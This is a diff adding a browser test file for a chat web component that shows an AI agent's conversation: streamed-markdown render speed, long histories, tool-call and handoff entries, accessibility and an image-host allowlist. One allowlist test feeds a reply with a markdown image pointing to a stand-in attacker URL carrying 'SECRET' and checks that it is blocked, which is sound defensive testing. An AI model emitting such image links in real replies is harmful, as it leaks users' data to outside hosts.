@@ -1,0 +1,298 @@
+// <agent-chat> as a view over a session's state (an injected fake session): render cost, long
+// histories, every entry kind, accessibility of every state, registration. The real flow is in
+// agent-chat.test.ts.
+import { expect, fixture, html, waitUntil } from '@open-wc/testing';
+import { AgentChat } from '../../src/elements/agent-chat/agent-chat.js';
+import { defineAgentChat } from '../../src/elements/agent-chat/define.js';
+import type { CachedEntry } from '../../src/client/contracts.js';
+import { renderMarkdown } from '../../src/elements/internal/markdown.js';
+import { FakeSession, reply, userMessage } from './helpers/fake-session.js';
+import { axeViolations } from './helpers/axe.js';
+
+function view(el: AgentChat) {
+  const root = el.shadowRoot!;
+  return {
+    root,
+    q: <T extends HTMLElement = HTMLElement>(s: string) => root.querySelector<T>(s),
+    all: (s: string) => [...root.querySelectorAll<HTMLElement>(s)],
+  };
+}
+
+async function chatWith(session: FakeSession, attrs: { mode?: string; open?: boolean } = {}): Promise<AgentChat> {
+  const el = await fixture<AgentChat>(html`<agent-chat .session=${session} mode=${attrs.mode ?? 'inline'} ?open=${attrs.open ?? false}></agent-chat>`);
+  await el.updateComplete;
+  return el;
+}
+
+/** A markdown reply of about `tokens` tokens (words and punctuation), with every block kind. */
+function longMarkdown(tokens: number): string {
+  const blocks = [
+    '## Section heading\n\n',
+    'A paragraph with **bold**, *emphasis*, `code` and a [link](https://docs.test/page) that goes on for a while to make it a realistic length of text.\n\n',
+    '- first item with some words\n- second item with more words\n- third item\n\n',
+    '```js\nconst answer = compute(42);\nconsole.log(answer);\n```\n\n',
+    '| a | b |\n|---|---|\n| one | two |\n| three | four |\n\n',
+    '> A quoted line of text from somewhere else.\n\n',
+  ];
+  let text = '';
+  let i = 0;
+  while ((text.match(/\s*[\p{L}\p{N}_]+|\s*[^\s\p{L}\p{N}_]/gu)?.length ?? 0) < tokens) text += blocks[i++ % blocks.length];
+  return text;
+}
+
+/** Replaces requestAnimationFrame with a queue the test flushes, so frame work is measured where it happens. */
+function manualFrames() {
+  const queue = new Map<number, FrameRequestCallback>();
+  let next = 0;
+  const raf = window.requestAnimationFrame;
+  const caf = window.cancelAnimationFrame;
+  window.requestAnimationFrame = (callback) => {
+    queue.set(++next, callback);
+    return next;
+  };
+  window.cancelAnimationFrame = (handle) => {
+    queue.delete(handle);
+  };
+  return {
+    flush() {
+      const callbacks = [...queue.values()];
+      queue.clear();
+      const now = performance.now();
+      for (const callback of callbacks) callback(now);
+    },
+    restore() {
+      window.requestAnimationFrame = raf;
+      window.cancelAnimationFrame = caf;
+    },
+  };
+}
+
+describe('<agent-chat> view', () => {
+  const TOKEN = /\s*[\p{L}\p{N}_]+|\s*[^\s\p{L}\p{N}_]|\s+/gu;
+  const shapes: Array<[string, string]> = [
+    ['mixed blocks', longMarkdown(5000)],
+    ['one long list', Array.from({ length: 840 }, (_, i) => `- item number ${i} here\n`).join('')],
+    ['one long code block', '```js\n' + Array.from({ length: 1250 }, (_, i) => `let v${i} = ${i};\n`).join('')],
+    ['one long paragraph', Array.from({ length: 5000 }, (_, i) => `word${i}`).join(' ')],
+  ];
+  for (const [shape, text] of shapes) {
+    it(`renders a 5,000-token streamed reply (${shape}) at ≤ 2 ms per delta (median), keeping finished blocks`, async () => {
+      const session = new FakeSession();
+      const el = await chatWith(session);
+      const deltas = text.match(TOKEN)!;
+      expect(deltas.length).to.be.at.least(4000);
+      const user = userMessage('u1', 'Write a long answer');
+      session.set({ conversationId: 'c1', entries: [user], status: 'submitted' });
+      await el.updateComplete;
+
+      // Frames are driven by hand: one frame per 3 deltas (tokens every ~5 ms), and each frame's work
+      // (throttled long blocks, scrolling) is counted in the delta that ends it.
+      const frames = manualFrames();
+      const times: number[] = [];
+      let acc = '';
+      let firstBlock: Element | null = null;
+      try {
+        for (let i = 0; i < deltas.length; i++) {
+          acc += deltas[i];
+          const t0 = performance.now();
+          session.set({ entries: [user, reply('r1', acc, { completed_at: null })], streamingEntryId: 'r1', status: 'streaming' });
+          await el.updateComplete;
+          if (i % 3 === 2) frames.flush();
+          times.push(performance.now() - t0);
+          if (!firstBlock && view(el).q('.markdown')!.children.length > 1) firstBlock = view(el).q('.markdown')!.firstElementChild;
+        }
+        session.set({ entries: [user, reply('r1', acc)], streamingEntryId: null, status: 'ready' });
+        await el.updateComplete;
+        frames.flush();
+      } finally {
+        frames.restore();
+      }
+
+      const bubble = view(el).q('.markdown')!;
+      if (firstBlock && shape === 'mixed blocks') expect(bubble.firstElementChild).to.equal(firstBlock);
+      // Rendering block by block while streaming ends with the same content as rendering the whole text.
+      const whole = document.createElement('div');
+      whole.innerHTML = renderMarkdown(acc);
+      expect(bubble.textContent!.replace(/\s+/g, '')).to.equal(whole.textContent!.replace(/\s+/g, ''));
+      expect(bubble.children.length).to.equal(whole.children.length);
+      const sorted = [...times].sort((a, b) => a - b);
+      const med = sorted[Math.floor(sorted.length / 2)];
+      const mean = times.reduce((a, b) => a + b, 0) / times.length;
+      const p95 = sorted[Math.floor(sorted.length * 0.95)];
+      console.log(`render cost (${shape}), ${deltas.length} deltas: median ${med.toFixed(2)} ms, mean ${mean.toFixed(2)} ms, p95 ${p95.toFixed(2)} ms, max ${sorted.at(-1)!.toFixed(1)} ms`);
+      expect(med).to.be.at.most(2);
+    });
+  }
+
+  it('opens a 1,000-message history quickly: renders the latest page, then earlier ones on request', async () => {
+    const entries: CachedEntry[] = [];
+    for (let i = 0; i < 500; i++) {
+      entries.push(userMessage(`u${i}`, `Question number ${i}`));
+      entries.push(reply(`r${i}`, `Answer **${i}** with a list:\n\n- one\n- two\n\nAnd \`code\` plus a [link](https://docs.test/${i}).`));
+    }
+    const session = new FakeSession();
+    const el = await chatWith(session);
+    let t0 = performance.now();
+    session.set({ conversationId: 'long', entries });
+    await el.updateComplete;
+    const first = performance.now() - t0;
+    const v = view(el);
+    expect(v.all('[part~="message"]').length).to.equal(100);
+    expect(v.q('[part~="show-earlier-button"]')!.textContent).to.contain('Show 100 earlier messages');
+
+    // Opening it again (another conversation in between) hits the per-entry render cache.
+    session.set({ conversationId: 'other', entries: [] });
+    await el.updateComplete;
+    t0 = performance.now();
+    session.set({ conversationId: 'long', entries });
+    await el.updateComplete;
+    const again = performance.now() - t0;
+    console.log(`1,000-message history: first open ${first.toFixed(1)} ms, reopen ${again.toFixed(1)} ms`);
+    expect(first).to.be.lessThan(400);
+    expect(again).to.be.lessThan(first);
+
+    v.q<HTMLButtonElement>('[part~="show-earlier-button"]')!.click();
+    await el.updateComplete;
+    expect(v.all('[part~="message"]').length).to.equal(200);
+  });
+
+  it('shows every entry kind: user text as text, markdown replies, tool calls, handoffs, interrupted replies', async () => {
+    const session = new FakeSession();
+    const el = await chatWith(session);
+    session.set({
+      conversationId: 'c1',
+      agentName: 'Billing',
+      notice: 'Older conversations were removed from this device to free space.',
+      entries: [
+        userMessage('u1', 'Hi <b>there</b> **not bold**'),
+        reply('r1', 'Hello **there**'),
+        { object: 'entry', type: 'function.call', id: 'fc1', tool_call_id: 't1', name: 'get_weather', arguments: '{"city":"Paris"}', created_at: '', completed_at: '' } as CachedEntry,
+        { object: 'entry', type: 'function.result', id: 'fr1', tool_call_id: 't1', result: '{"temperature_c":21}', created_at: '', completed_at: '' } as CachedEntry,
+        { object: 'entry', type: 'tool.execution', id: 'te1', name: 'web_search', arguments: '{"q":"x"}', created_at: '', completed_at: '' } as CachedEntry,
+        { object: 'entry', type: 'agent.handoff', id: 'h1', previous_agent_id: 'a', previous_agent_name: 'Support', next_agent_id: 'b', next_agent_name: 'Billing', created_at: '', completed_at: '' } as CachedEntry,
+        reply('r2', 'Cut off mid', { interrupted: true, completed_at: null }),
+      ],
+    });
+    await el.updateComplete;
+    const v = view(el);
+    const userBubble = v.q('[part~="message-user"] [part~="bubble"]')!;
+    expect(userBubble.textContent).to.equal('Hi <b>there</b> **not bold**');
+    expect(userBubble.querySelector('b, strong')).to.equal(null);
+    expect(v.q('[part~="message-assistant"] strong')!.textContent).to.equal('there');
+    const calls = v.all('[part~="tool-call"]');
+    expect(calls.length).to.equal(2);
+    expect(calls[0].querySelector('summary')!.textContent).to.contain('Called get_weather');
+    expect(calls[0].textContent).to.contain('"city": "Paris"');
+    expect(calls[0].textContent).to.contain('"temperature_c": 21');
+    expect(calls[1].querySelector('summary')!.textContent).to.contain('Used web_search');
+    expect(v.q('[part~="handoff"]')!.textContent).to.equal('Passed to the Billing agent');
+    expect(v.q('[part~="interrupted"]')!.textContent).to.equal('This reply was interrupted.');
+    expect(v.q('[part~="title"]')!.textContent).to.equal('Billing');
+    expect(v.q('[part~="notice"]')!.textContent).to.contain('Older conversations');
+    // Regenerate is offered on the last reply only.
+    expect(v.all('[part~="regenerate-button"]').length).to.equal(1);
+    expect(v.q('[data-entry-id="r2"] [part~="regenerate-button"]')).to.not.equal(null);
+    expect(await axeViolations(el)).to.deep.equal([]);
+  });
+
+  it('is accessible with an error, the edit form and the conversation list shown', async () => {
+    const session = new FakeSession();
+    session.conversations = [
+      { id: 'c1', title: 'About invoices', agentId: null, model: 'm', createdAt: '2025-01-01T00:00:00Z', updatedAt: '2025-01-02T00:00:00Z' },
+      { id: 'c2', title: '', agentId: null, model: 'm', createdAt: '2025-01-01T00:00:00Z', updatedAt: '2025-01-01T00:00:00Z' },
+    ];
+    const el = await chatWith(session);
+    session.set({
+      conversationId: 'c1',
+      entries: [userMessage('u1', 'Question'), reply('r1', 'Answer')],
+      status: 'error',
+      error: { status: 429, type: 'rate_limit_error', code: null, message: 'Rate limit exceeded', retryAfter: 12 },
+    });
+    await el.updateComplete;
+    const v = view(el);
+    expect(v.q('[part~="error"]')!.textContent).to.contain('Too many requests. Try again in 12 seconds.');
+    v.q<HTMLButtonElement>('[part~="retry-button"]')!.click();
+    expect(session.calls.at(-1)).to.deep.equal(['retry']);
+
+    v.q<HTMLButtonElement>('[part~="edit-button"]')!.click();
+    await el.updateComplete;
+    expect(v.root.activeElement).to.equal(v.q('.edit textarea'));
+    expect(await axeViolations(el)).to.deep.equal([]);
+    v.q('.edit textarea')!.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
+    await el.updateComplete;
+    expect(v.q('.edit')).to.equal(null);
+    expect(v.root.activeElement).to.equal(v.q('[part~="edit-button"]'));
+
+    v.q<HTMLButtonElement>('[part~="history-button"]')!.click();
+    await waitUntil(() => v.all('[part~="conversation-button"]').length === 2);
+    expect(v.all('[part~="conversation-button"]')[1].textContent).to.contain('Untitled conversation');
+    expect(v.q('[part~="conversation-button"][aria-current="true"]')!.textContent).to.contain('About invoices');
+    expect(await axeViolations(el)).to.deep.equal([]);
+    v.all('[part~="conversation-button"]')[1].click();
+    await el.updateComplete;
+    expect(session.calls.at(-1)).to.deep.equal(['load', 'c2']);
+  });
+
+  it('loads reply images only from the hosts in allow-image-hosts', async () => {
+    const session = new FakeSession();
+    const el = await fixture<AgentChat>(html`<agent-chat .session=${session} allow-image-hosts="img.allowed.test  other.test"></agent-chat>`);
+    session.set({
+      conversationId: 'c1',
+      entries: [userMessage('u1', 'Show images'), reply('r1', '![cat](https://img.allowed.test/cat.png) ![secret](https://evil.test/?q=SECRET)')],
+    });
+    await el.updateComplete;
+    const bubble = view(el).q('.markdown')!;
+    expect([...bubble.querySelectorAll('img')].map((img) => img.getAttribute('src'))).to.deep.equal(['https://img.allowed.test/cat.png']);
+    expect(bubble.querySelector('.parley-image-blocked')!.textContent).to.equal('Image "secret" from evil.test not loaded');
+    // Changing the allowlist renders the reply again under the new rule.
+    el.allowImageHosts = '';
+    await el.updateComplete;
+    expect(bubble.querySelectorAll('img').length).to.equal(0);
+  });
+
+  it('takes translated strings', async () => {
+    const session = new FakeSession();
+    const el = await fixture<AgentChat>(html`<agent-chat .session=${session} .strings=${{ send: 'Senden', inputLabel: 'Nachricht', emptyState: 'Frag etwas.' }}></agent-chat>`);
+    const v = view(el);
+    expect(v.q('[part~="send-button"]')!.textContent!.trim()).to.equal('Senden');
+    expect(v.q('[part~="input"]')!.getAttribute('aria-label')).to.equal('Nachricht');
+    expect(v.q('[part~="empty"]')!.textContent).to.equal('Frag etwas.');
+  });
+
+  it('offers header, empty and launcher-icon slots', async () => {
+    const session = new FakeSession();
+    const el = await fixture<AgentChat>(html`<agent-chat .session=${session}><h2 slot="header">Shop help</h2><p slot="empty">Ask about orders</p></agent-chat>`);
+    const v = view(el);
+    const header = v.q<HTMLSlotElement>('slot[name="header"]')!;
+    const empty = v.q<HTMLSlotElement>('slot[name="empty"]')!;
+    expect(header.assignedElements()[0].textContent).to.equal('Shop help');
+    expect(empty.assignedElements()[0].textContent).to.equal('Ask about orders');
+  });
+
+  it('does not re-dispatch a reply as finished when the user stopped it', async () => {
+    const session = new FakeSession();
+    const el = await chatWith(session);
+    let finished = 0;
+    el.addEventListener('parley-reply-finished', () => finished++);
+    const user = userMessage('u1', 'Hi');
+    session.set({ conversationId: 'c1', entries: [user, reply('r1', 'Partial', { completed_at: null })], streamingEntryId: 'r1', status: 'streaming' });
+    await el.updateComplete;
+    view(el).q('[part~="transcript"]')!.dispatchEvent(new KeyboardEvent('keydown', { key: 'Escape', bubbles: true, composed: true }));
+    await el.updateComplete;
+    expect(session.calls.at(-1)).to.deep.equal(['stop']);
+    expect(finished).to.equal(0);
+    expect(view(el).q('[part~="interrupted"]')).to.not.equal(null);
+  });
+});
+
+describe('<agent-chat> registration', () => {
+  it('define.ts is guarded against double definition; a subclass can take another tag', async () => {
+    expect(customElements.get('agent-chat')).to.equal(AgentChat);
+    defineAgentChat();
+    // A second evaluation of the module (as a second bundle would do) does not throw.
+    await import(/* @vite-ignore */ `../../src/elements/agent-chat/define.ts?copy=${Date.now()}`);
+    expect(customElements.get('agent-chat')).to.equal(AgentChat);
+    customElements.define('shop-chat', class extends AgentChat {});
+    expect(document.createElement('shop-chat')).to.be.instanceOf(AgentChat);
+  });
+});
